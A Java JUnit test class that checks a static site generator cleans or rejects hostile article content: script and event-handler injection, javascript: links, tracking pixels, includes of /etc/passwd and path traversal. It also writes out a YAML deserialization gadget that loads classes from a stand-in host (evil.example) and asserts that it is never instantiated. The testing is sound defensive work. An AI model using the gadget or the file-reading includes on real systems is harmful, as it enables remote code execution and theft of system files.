package org.commentary.site;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Properties;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.assertj.core.api.SoftAssertions;
import org.commentary.build.ContentErrorsException;
import org.commentary.validation.Problem;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Disabled;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Issue #8: hostile and malformed content. Every file under fixtures/hostile/published/ must bake (all in
 * one bake) into a page that cannot run script, load from the network or leak the build machine, with its
 * harmless text kept and its markup-laden metadata shown as text; the sanitizer's removals are reported
 * per file. Every file under fixtures/hostile/rejected/ (plus a symbolic link to /etc/passwd and a data
 * file with a global YAML tag, both made at test time) must fail the one bake that holds them all, each
 * with its own problem, and nothing may be written.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileContentTest {

    private static final String DIR = "articles/2024/";
    private static final String PUBLISHED = "fixtures/hostile/published";
    private static final String REJECTED = "fixtures/hostile/rejected";

    /** Elements no article body may hold, whatever the contributor wrote. */
    private static final String FORBIDDEN_IN_BODY = "script, style, iframe, frame, frameset, object, embed, applet,"
            + " form, input, button, select, textarea, base, meta, link, svg, math, noscript, template";
    /** Attributes whose value is a URL a browser would follow or load. */
    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "action", "formaction", "data", "poster",
            "background", "cite", "srcset", "xlink:href", "longdesc", "manifest");
    private static final Pattern DANGEROUS_SCHEME = Pattern.compile("^(javascript|data|vbscript):");

    // --- the table -----------------------------------------------------------------------------------------

    /**
     * One published fixture: phrases of its body that must survive, what the sanitizer must report removing
     * (empty: nothing), and checks of its own on the page.
     */
    record Published(String name, List<String> kept, List<String> removed, PageCheck check) {
        String file() {
            return DIR + name;
        }

        String page() {
            return DIR + name.substring(0, name.lastIndexOf('.')) + ".html";
        }

        @Override
        public String toString() {
            return name;
        }
    }

    @FunctionalInterface
    interface PageCheck {
        void check(Document page, ContentHeader header, SoftAssertions soft);
    }

    private static final PageCheck NONE = (page, header, soft) -> { };

    static List<Published> published() {
        return List.of(
                new Published("adoc-attributes.adoc", List.of("Home", "doc dir", "config https://outlet.example/a"),
                        List.of(), NONE), // leaks are checked by asciidocAttributeReferencesLeakNothingOfTheMachine
                new Published("adoc-javascript-link.adoc", List.of("Please click here to continue."),
                        List.of("javascript: URL in href of <a>"), NONE),
                new Published("adoc-pass-macro.adoc", List.of("Inline", "macro and", "triple plus."),
                        List.of("<script> element", "onerror attribute on <img>"), NONE),
                new Published("adoc-passthrough.adoc", List.of("Before the block.", "After the block."),
                        List.of("<script> element", "<iframe> element"), NONE),
                new Published("md-author-markup.md", List.of("The author name carries markup."), List.of(),
                        (page, header, soft) -> {
                            soft.assertThat(page.select("main article header .byline").text()).as("byline")
                                    .isEqualTo("By " + header.get("author"));
                            soft.assertThat(page.select("main article header img")).as("img from the author name")
                                    .isEmpty();
                        }),
                new Published("md-base-tag.md", List.of("A base element would redirect every relative link."),
                        List.of("<base> element"), NONE),
                new Published("md-bom-crlf.md", List.of("Windows line endings and a byte-order mark."), List.of(),
                        (page, header, soft) -> {
                            soft.assertThat(page.select("main h1").text()).as("h1 of the BOM/CRLF file")
                                    .isEqualTo("BOM and CRLF");
                            soft.assertThat(page.title()).as("<title> of the BOM/CRLF file").startsWith("BOM and CRLF ");
                            soft.assertThat(page.outerHtml()).as("page of the BOM/CRLF file")
                                    .doesNotContain("\uFEFF", "\r");
                        }),
                new Published("md-data-url.md", List.of("A data link goes nowhere."),
                        List.of("data: URL in href of <a>"), NONE),
                new Published("md-empty-optional.md", List.of("Optional fields left empty are simply absent."),
                        List.of(), (page, header, soft) -> {
                            String footer = page.select("footer.attribution").text();
                            soft.assertThat(footer).as("attribution footer without the empty optional fields")
                                    .contains("First published by Test Outlet")
                                    .doesNotContain("under the title", "Translated by", "Changes from the original");
                            soft.assertThat(page.select("footer.attribution cite")).as("empty source_title").isEmpty();
                        }),
                new Published("md-event-handlers.md", List.of("Hover text.", "Focus text."),
                        List.of("onclick attribute on <p>", "onmouseover attribute on <p>", "onfocus attribute on <div>"),
                        NONE),
                new Published("md-form.md", List.of("Forms are not allowed."), List.of("<form> element"), NONE),
                new Published("md-iframe.md", List.of("Framed content follows.", "The frame is gone."),
                        List.of("<iframe> element"), NONE),
                new Published("md-img-onerror.md", List.of("Look:", "stays an image."),
                        List.of("onerror attribute on <img>"), (page, header, soft) ->
                        soft.assertThat(page.select(".article__body img").stream()
                                        .map(img -> img.attr("src") + " | " + img.attr("alt")).toList())
                                .as("the relative image stays, without its handler").containsExactly("figure.png | A figure")),
                new Published("md-inline-script.md", List.of("Text with", "inside a paragraph survives."),
                        List.of("<script> element"), NONE),
                new Published("md-javascript-entity.md", List.of("An encoded link is harmless."),
                        List.of("javascript: URL in href of <a>"), NONE),
                new Published("md-javascript-link.md", List.of("Please click here to continue reading."),
                        List.of("javascript: URL in href of <a>"), NONE),
                new Published("md-jsonld-breakout.md", List.of("The title tries to end the structured-data script."),
                        List.of(), (page, header, soft) -> {
                            titleIsText(page, header, soft);
                            soft.assertThat(page.select("footer.attribution cite").eachText()).as("original title")
                                    .containsExactly(header.get("source_title"));
                        }),
                new Published("md-long-title.md", List.of("A long title must still build."), List.of(),
                        HostileContentTest::titleIsText),
                new Published("md-meta-refresh.md", List.of("No redirects from articles."), List.of("<meta> element"),
                        NONE),
                new Published("md-object-embed.md", List.of("Plugins are not allowed."),
                        List.of("<object> element", "<embed> element"), NONE),
                new Published("md-protocol-relative-image.md", List.of("Another pixel:", "is removed."),
                        List.of("remote image //tracker.example/p.gif"), (page, header, soft) ->
                        soft.assertThat(page.select(".article__body img")).as("images left").isEmpty()),
                new Published("md-remote-image.md", List.of("A tracking pixel:", "is removed."),
                        List.of("remote image https://tracker.example/pixel.png"), (page, header, soft) ->
                        soft.assertThat(page.select(".article__body img")).as("images left").isEmpty()),
                new Published("md-script.md", List.of("Before the script.", "After the script."),
                        List.of("<script> element"), NONE),
                new Published("md-source-markup.md", List.of("The outlet name carries markup."), List.of(),
                        (page, header, soft) -> {
                            soft.assertThat(page.select("main article header a").eachText()).as("source link in the header")
                                    .contains(header.get("source"));
                            soft.assertThat(page.select("footer.attribution a").eachText()).as("source link in the footer")
                                    .contains(header.get("source"));
                            soft.assertThat(page.select("footer.attribution p").eachText()).as("copyright line")
                                    .contains("© " + header.get("copyright"));
                            soft.assertThat(page.select("main article header b, main article header i,"
                                    + " footer.attribution b, footer.attribution i")).as("elements from metadata").isEmpty();
                        }),
                new Published("md-style.md", List.of("Styled paragraph text."),
                        List.of("<style> element", "style attribute on <p>"), NONE),
                new Published("md-summary-quotes.md", List.of("The summary tries to leave its attribute."), List.of(),
                        (page, header, soft) -> soft.assertThat(page.select("head meta[name=description]").eachAttr("content"))
                                .as("meta description holds the summary literally").containsExactly(header.get("summary"))),
                new Published("md-svg.md", List.of("Vector graphics are not allowed inline."), List.of("<svg> element"),
                        NONE),
                new Published("md-title-markup.md", List.of("The title tries to close the title element."), List.of(),
                        HostileContentTest::titleIsText),
                new Published("md-unicode.md", List.of("Unicode titles, right-to-left marks and CJK are text like any other."),
                        List.of(), (page, header, soft) -> {
                            titleIsText(page, header, soft);
                            soft.assertThat(page.select("main article header .byline").text()).as("byline")
                                    .isEqualTo("By Мария Иванова and 王小明");
                        }));
    }

    /** One rejected fixture: the field and key phrases of the problem it must produce, and its line (0: none). */
    record Rejected(String file, String field, List<String> phrases, int line) {
        @Override
        public String toString() {
            return file;
        }
    }

    /** Made at test time in the rejected bake (neither can be committed usefully): paths below the source folder. */
    private static final String SYMLINK = "content/" + DIR + "passwd-link.md";
    private static final String GADGET = "data/gadget.yml";
    private static final String CANARY = "data/canary.yml";

    static List<Rejected> rejected() {
        return List.of(
                new Rejected("content/" + DIR + "My Article.md", "file name",
                        List.of("\"My Article.md\"", "rename it to \"my-article.md\""), Problem.NO_LINE),
                new Rejected("content/" + DIR + "adoc-include-passwd.adoc", "include",
                        List.of("include::/etc/passwd[]", "not allowed"), -1),
                new Rejected("content/" + DIR + "adoc-include-relative.adoc", "include",
                        List.of("include::../../../jbake.properties[]", "not allowed"), -1),
                new Rejected("content/" + DIR + "data-in-content.yml", "file", List.of("data folder"), Problem.NO_LINE),
                new Rejected("content/" + DIR + "md-latin1.md", "file", List.of("not valid UTF-8"), Problem.NO_LINE),
                new Rejected("content/" + DIR + "md-no-copyright.md", "copyright", List.of("missing"), -1),
                new Rejected("content/" + DIR + "md-source-url-data.md", "source_url",
                        List.of("is not a web address", "http"), -1),
                new Rejected("content/" + DIR + "md-source-url-javascript.md", "source_url",
                        List.of("\"javascript:alert(1)\" is not a web address"), -1),
                new Rejected("content/" + DIR + "md-status-twice.md", "status", List.of("given twice"), -1),
                new Rejected("content/" + DIR + "stray.html", "file",
                        List.of("\"stray.html\" is not an article or an image"), Problem.NO_LINE),
                new Rejected(SYMLINK, "file", List.of("symbolic link"), Problem.NO_LINE),
                new Rejected(GADGET, "yaml", List.of("javax.script.ScriptEngineManager", "not allowed"), 1),
                new Rejected(CANARY, "yaml", List.of("java.io.FileOutputStream", "not allowed"), 1));
    }

    private FixtureBake.Result good;
    private FixtureBake.Result bad;
    private String badConsole;
    private Path canaryTarget;

    @BeforeAll
    void bakeBothFixtureSets() {
        good = FixtureBake.bake("hostile-published", PUBLISHED);

        ByteArrayOutputStream console = new ByteArrayOutputStream();
        PrintStream out = System.out;
        PrintStream err = System.err;
        System.setOut(new PrintStream(new Tee(out, console), true, StandardCharsets.UTF_8));
        System.setErr(new PrintStream(new Tee(err, console), true, StandardCharsets.UTF_8));
        try {
            bad = FixtureBake.setup("hostile-rejected").fixtures(REJECTED).prepare(source -> {
                Files.createSymbolicLink(source.resolve(SYMLINK), Path.of("/etc/passwd"));
                Files.writeString(source.resolve(GADGET), "!!javax.script.ScriptEngineManager"
                        + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n");
                // If any YAML loader constructed this, the file would appear: proof that nothing was instantiated.
                canaryTarget = source.getParent().resolve("canary-created");
                Files.writeString(source.resolve(CANARY), "- !!java.io.FileOutputStream [\""
                        + canaryTarget.toString().replace("\\", "/") + "\"]\n");
            }).bake();
        } finally {
            System.setOut(out);
            System.setErr(err);
        }
        badConsole = console.toString(StandardCharsets.UTF_8);
    }

    // --- published --------------------------------------------------------------------------------------

    @Test
    void everyPublishedFixtureBakesIntoItsPage() {
        assertThat(good.succeeded()).as("hostile content is cleaned, not a build error: %s", good.describe()).isTrue();
        Set<String> expected = published().stream().map(Published::page).collect(Collectors.toCollection(TreeSet::new));
        Set<String> pages = good.site().htmlPages().stream().filter(page -> page.startsWith("articles/"))
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(pages).as("article pages of the hostile-published bake").isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("published")
    void publishedFixtureIsSafeAndKeepsItsText(Published fixture) {
        Document page = good.site().page(fixture.page());
        ContentHeader header = ContentHeader.read(good.content(), good.content().resolve(fixture.file()));
        Element body = page.selectFirst("main article .article__body");
        assertThat(body).as("%s: article body", fixture.page()).isNotNull();

        SoftAssertions soft = new SoftAssertions();
        checkPageIsInert(soft, fixture.page(), page);
        soft.assertThat(body.select(FORBIDDEN_IN_BODY).stream().map(Element::normalName).toList())
                .as("%s: forbidden elements in the article body", fixture.page()).isEmpty();
        soft.assertThat(body.select("[style]").stream().map(Element::normalName).toList())
                .as("%s: style attributes in the article body", fixture.page()).isEmpty();
        soft.assertThat(body.text()).as("%s: script source must not survive as text", fixture.page())
                .doesNotContain("alert(");
        for (String phrase : fixture.kept()) {
            soft.assertThat(body.text()).as("%s: harmless text kept", fixture.page()).contains(phrase);
        }
        soft.assertThat(page.select("main h1").eachText()).as("%s: h1 is the title", fixture.page())
                .containsExactly(header.title());
        fixture.check().check(page, header, soft);
        soft.assertAll();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("published")
    void warningsNameEachCleanedFileAndWhatWasRemoved(Published fixture) {
        List<String> removals = good.warningsFor(fixture.file()).stream().filter(w -> w.startsWith("removed ")).toList();
        if (fixture.removed().isEmpty()) {
            assertThat(removals).as("%s: nothing to remove, nothing reported", fixture.file()).isEmpty();
            return;
        }
        String joined = String.join("\n", removals);
        assertThat(removals).as("warnings of %s (all warnings: %s)", fixture.file(), good.warnings()).isNotEmpty();
        for (String removed : fixture.removed()) {
            assertThat(joined).as("warnings of %s name what was removed", fixture.file()).contains(removed);
        }
    }

    @Test
    void markdownJavascriptLinkIsReported() {
        assertThat(good.warningsFor(DIR + "md-javascript-link.md")).as("warnings of md-javascript-link.md")
                .anySatisfy(warning -> assertThat(warning).contains("javascript:"));
    }

    /**
     * Word writes a manual line break as U+000B; terminals leave ESC (U+001B) in copied text; U+FFFF is a
     * noncharacter that is still valid UTF-8. XML 1.0 allows none of them, so either the build rejects such a
     * header (naming the file and field) or it keeps every feed well-formed.
     */
    @Test
    void controlCharactersInAHeaderNeverMakeAFeedMalformed() {
        String file = DIR + "control-characters.md";
        FixtureBake.Result bake = FixtureBake.setup("hostile-control-characters").prepare(source -> {
            Path article = source.resolve("content").resolve(file);
            Files.createDirectories(article.getParent());
            Files.writeString(article, "title=A manual line\u000Bbreak from Word \uFFFF\n"
                    + "date=2024-05-01\nauthor=Test Author\nregion=Europe\ntheme=Energy\nsource=Test Outlet\n"
                    + "source_url=https://outlet.example/a\ncopyright=Test Author, Test Outlet, 2024\n"
                    + "summary=Colour codes \u001B[31mpasted from a terminal\u001B[0m.\nstatus=published\n~~~~~~\n\n"
                    + "Body text.\n", StandardCharsets.UTF_8);
        }).bake();
        if (bake.thrown() != null) {
            assertThat(bake.problemsFor(file)).as("a rejected header names its fields: %s", bake.describe())
                    .extracting(Problem::field).contains("title", "summary");
            return;
        }
        List<String> malformed = new ArrayList<>();
        for (String xml : bake.site().files().stream().filter(path -> path.endsWith(".xml")).toList()) {
            try {
                AtomFeed.XmlFiles.parse(bake.site().file(xml), xml);
            } catch (AssertionError e) {
                malformed.add(e.getMessage());
            }
        }
        assertThat(malformed).as("XML files of a bake that accepted the header").isEmpty();
    }

    @Test
    void everyPageOfThePublishedBakeIsInertAndEveryFeedIsXml() {
        SoftAssertions soft = new SoftAssertions();
        for (String page : good.site().htmlPages()) {
            checkPageIsInert(soft, page, good.site().page(page));
        }
        for (String feed : good.site().files().stream().filter(path -> path.endsWith(".xml")).toList()) {
            AtomFeed.XmlFiles.parse(good.site().file(feed), feed); // fails on malformed XML
        }
        // Markup in an author's name reaches the author page, index and feed as text only.
        String mallory = ContentHeader.read(good.content(), good.content().resolve(DIR + "md-author-markup.md"))
                .get("author");
        soft.assertThat(good.site().page("authors/index.html").select("main a").eachText()).as("authors/index.html")
                .contains(mallory);
        List<AtomFeed> feeds = good.site().files().stream().filter(path -> path.startsWith("authors/") && path.endsWith(".xml"))
                .map(path -> AtomFeed.parse(good.site().file(path), path)).toList();
        soft.assertThat(feeds.stream().flatMap(feed -> feed.entries().stream()).flatMap(e -> e.authors().stream()).toList())
                .as("author names in the author feeds").contains(mallory);
        soft.assertAll();
    }

    @Test
    void asciidocAttributeReferencesLeakNothingOfTheMachine() throws IOException {
        Set<String> secrets = new LinkedHashSet<>(List.of("/work", "/root", "/home", "/tmp"));
        for (String property : List.of("user.home", "user.dir", "java.io.tmpdir", "java.home")) {
            String value = System.getProperty(property, "");
            if (value.length() > 1) {
                secrets.add(value);
            }
        }
        secrets.add(good.source().toAbsolutePath().toString());
        Properties settings = new Properties();
        try (var reader = Files.newBufferedReader(good.source().resolve("jbake.properties"))) {
            settings.load(reader);
        }
        settings.stringPropertyNames().forEach(secrets::add); // template.article.file, db.store, site.url...
        SoftAssertions soft = new SoftAssertions();
        for (String file : good.site().files()) {
            if (!file.matches(".*\\.(html|xml|txt)")) {
                continue; // assets are copied as they are
            }
            String text = Files.readString(good.site().file(file));
            for (String secret : secrets) {
                int at = text.indexOf(secret);
                if (at >= 0) {
                    soft.fail("%s contains \"%s\": ...%s...", file, secret,
                            text.substring(Math.max(0, at - 60), Math.min(text.length(), at + secret.length() + 60)));
                }
            }
        }
        String page = good.site().page(DIR + "adoc-attributes.html").select("main").text();
        String user = System.getProperty("user.name", "");
        soft.assertThat(Pattern.compile("\\b" + Pattern.quote(user) + "\\b").matcher(page).find())
                .as("adoc-attributes.html names the build user \"%s\": %s", user, page).isFalse();
        soft.assertAll();
    }

    // --- rejected ---------------------------------------------------------------------------------------

    @Test
    void rejectedBakeFailsAndWritesNothing() {
        assertThat(bad.thrown()).as(bad.describe()).isInstanceOf(ContentErrorsException.class);
        assertThat(bad.site().files()).as("files written by a bake that failed").isEmpty();
        assertThat(canaryTarget).as("a YAML tag instantiated java.io.FileOutputStream").doesNotExist();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rejected")
    void rejectedFixtureFailsWithItsProblem(Rejected fixture) {
        List<Problem> problems = problemsFor(fixture.file());
        Integer line = fixture.line() >= 0 ? fixture.line() : lineOfFirstProblem(fixture);
        assertThat(problems).as("problems of %s; all problems:%n%s", fixture.file(), bad.describe())
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.field()).as("field of %s", problem).isEqualTo(fixture.field()))
                .anySatisfy(problem -> {
                    assertThat(problem.message()).as("message of %s", problem).contains(fixture.phrases());
                    if (line != null) {
                        assertThat(problem.line()).as("line of %s", problem).isEqualTo(line);
                    }
                });
    }

    @Test
    void everyRejectedFixtureIsInTheTableAndNothingElseHasAProblem() throws IOException {
        Set<String> files = new TreeSet<>();
        try (Stream<Path> walk = Files.walk(bad.content())) {
            walk.filter(path -> Files.isRegularFile(path) || Files.isSymbolicLink(path))
                    .forEach(path -> files.add(relative(path)));
        }
        files.add(GADGET);
        files.add(CANARY);
        assertThat(files).as("rejected fixture files and table rows must match one to one")
                .isEqualTo(rejected().stream().map(Rejected::file).collect(Collectors.toCollection(TreeSet::new)));
        Set<String> reported = bad.problems().stream().map(problem -> relative(problem.file()))
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(reported).as("files with problems").isEqualTo(files);
    }

    @Test
    void nothingOfEtcPasswdReachesTheOutputOrTheLog() throws IOException {
        List<String> passwd = Files.isReadable(Path.of("/etc/passwd"))
                ? Files.readAllLines(Path.of("/etc/passwd")).stream().filter(l -> !l.isBlank()).limit(3).toList()
                : List.of();
        List<String> needles = new ArrayList<>(List.of("root:x:0:0"));
        needles.addAll(passwd);
        String log = bad.describe() + "\n" + bad.thrown() + "\n" + bad.warnings() + "\n" + badConsole;
        SoftAssertions soft = new SoftAssertions();
        for (String needle : needles) {
            soft.assertThat(log).as("problems, warnings and console output of the rejected bake").doesNotContain(needle);
            for (String file : bad.site().files()) {
                soft.assertThat(Files.readString(bad.site().file(file))).as(file).doesNotContain(needle);
            }
        }
        soft.assertAll();
    }

    // --- the corpus ---------------------------------------------------------------------------------------

    @Test
    void corpusHoldsAtLeastThirtyHostileFixturesInBothFormats() throws IOException {
        List<String> names = new ArrayList<>();
        for (FixtureBake.Result bake : List.of(good, bad)) {
            try (Stream<Path> walk = Files.walk(bake.content())) {
                walk.filter(Files::isRegularFile).filter(path -> !Files.isSymbolicLink(path))
                        .forEach(path -> names.add(path.getFileName().toString()));
            }
        }
        assertThat(names).as("hostile fixtures (committed)").hasSizeGreaterThanOrEqualTo(30)
                .anyMatch(name -> name.endsWith(".md")).anyMatch(name -> name.endsWith(".adoc"));
        assertThat(published().size() + rejected().size()).as("table rows").isGreaterThanOrEqualTo(30);
    }

    // --- helpers ------------------------------------------------------------------------------------------

    private static final java.util.regex.Pattern SITE_SCRIPT = java.util.regex.Pattern.compile("js/search\\.js");
    private static final java.util.regex.Pattern SEARCH_ACTION =
            java.util.regex.Pattern.compile("(\\.\\./)*search\\.html|https?://[^?#]+/search\\.html");

    /**
     * The copy-link button's script (templates/article.ftlh): the site's own file, empty, outside the article's
     * text, on article pages only.
     */
    static boolean isCopyLinkScript(String path, Element script) {
        return path.startsWith("articles/") && script.html().isBlank() && script.closest(".article__body") == null
                && script.attr("src").replaceFirst("^(\\.\\./)+", "").equals("js/copy-link.js");
    }

    /** Nothing on the page can run script, redirect, or load from the network. */
    static void checkPageIsInert(SoftAssertions soft, String path, Document page) {
        // The search page is the site's own (templates/search.ftlh): its script, js/search.js, is allowed there,
        // and only there. Every page has the site's own search box (macros.ftlh): a GET form to search.html.
        boolean searchPage = path.equals("search.html");
        soft.assertThat(page.select("script").stream().filter(s -> !s.attr("type").strip()
                        .equalsIgnoreCase("application/ld+json"))
                        .filter(s -> !(searchPage && s.html().isBlank() && SITE_SCRIPT.matcher(s.attr("src")).matches()))
                        .filter(s -> !isCopyLinkScript(path, s))
                        .map(Element::outerHtml).toList())
                .as("%s: script elements (only application/ld+json data and the site's own scripts are allowed)", path)
                .isEmpty();
        soft.assertThat(page.select("iframe, frame, object, embed, applet, form, base, style, meta[http-equiv]")
                        .stream().filter(e -> !(e.normalName().equals("form") && e.attr("role").equals("search")
                                && e.attr("method").equals("get") && SEARCH_ACTION.matcher(e.attr("action")).matches()))
                        .map(e -> "<" + e.normalName() + ">").toList())
                .as("%s: frames, plugins, forms, base, style or meta refresh", path).isEmpty();
        List<String> handlers = new ArrayList<>();
        List<String> urls = new ArrayList<>();
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue().replaceAll("[\\s\\u0000-\\u001f]", "").toLowerCase(Locale.ROOT);
                if (key.startsWith("on")) {
                    handlers.add("<" + element.normalName() + " " + attribute.html() + ">");
                }
                if ((URL_ATTRIBUTES.contains(key) && DANGEROUS_SCHEME.matcher(value).find())
                        || value.contains("javascript:") || value.contains("vbscript:")) {
                    urls.add("<" + element.normalName() + " " + attribute.html() + ">");
                }
            }
        }
        soft.assertThat(handlers).as("%s: on* attributes", path).isEmpty();
        soft.assertThat(urls).as("%s: javascript:, vbscript: or data: URLs", path).isEmpty();
        soft.assertThat(page.select("img[src], source[src], video[src], audio[src]").eachAttr("src").stream()
                        .filter(src -> SiteUnderTest.ABSOLUTE_URL.matcher(src.replaceAll("[\\s\\u0000-\\u001f]", "")
                                .replace('\\', '/')).find()).toList())
                .as("%s: remote images or media", path).isEmpty();
    }

    /** The raw title is shown as text: the h1 and the {@code <title>} hold it, and no element came of it. */
    static void titleIsText(Document page, ContentHeader header, SoftAssertions soft) {
        String title = header.title();
        soft.assertThat(page.select("main h1").eachText()).as("h1 text is the raw title").containsExactly(title);
        soft.assertThat(page.select("main h1 *")).as("elements inside the h1").isEmpty();
        soft.assertThat(page.title()).as("<title> holds the raw title").startsWith(title);
        soft.assertThat(page.select("head title")).as("title elements").hasSize(1);
    }

    private List<Problem> problemsFor(String sourcePath) {
        return bad.problems().stream().filter(problem -> relative(problem.file()).equals(sourcePath)).toList();
    }

    /** A path below the rejected bake's source folder, with '/' separators. */
    private String relative(Path file) {
        Path source = bad.source().toAbsolutePath().normalize();
        Path absolute = file.toAbsolutePath().normalize();
        return source.relativize(absolute).toString().replace('\\', '/');
    }

    /** The line each rejected fixture's problem must point at, read from the fixture itself. */
    private Integer lineOfFirstProblem(Rejected fixture) {
        List<String> lines;
        try {
            lines = Files.readAllLines(bad.source().resolve(fixture.file()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return switch (fixture.field()) {
            case "include" -> firstLine(lines, "include::");
            case "copyright" -> firstLine(lines, "~~~~~~"); // a missing field: the line closing the header
            case "source_url" -> firstLine(lines, "source_url=");
            case "status" -> {
                int first = firstLine(lines, "status=");
                int second = firstLine(lines.subList(first, lines.size()), "status=");
                yield first + second; // the second status line
            }
            default -> null;
        };
    }

    private static int firstLine(List<String> lines, String prefix) {
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).startsWith(prefix)) {
                return i + 1;
            }
        }
        return fail("no line starting with " + prefix + " in " + Arrays.toString(lines.toArray()));
    }

    /** Copies console output to the real stream and to a buffer, to look for leaks in what the bake prints. */
    private static final class Tee extends OutputStream {
        private final OutputStream first;
        private final OutputStream second;

        Tee(OutputStream first, OutputStream second) {
            this.first = first;
            this.second = second;
        }

        @Override
        public void write(int b) throws IOException {
            first.write(b);
            second.write(b);
        }

        @Override
        public void write(byte[] b, int off, int len) throws IOException {
            first.write(b, off, len);
            second.write(b, off, len);
        }

        @Override
        public void flush() throws IOException {
            first.flush();
            second.flush();
        }
    }
}
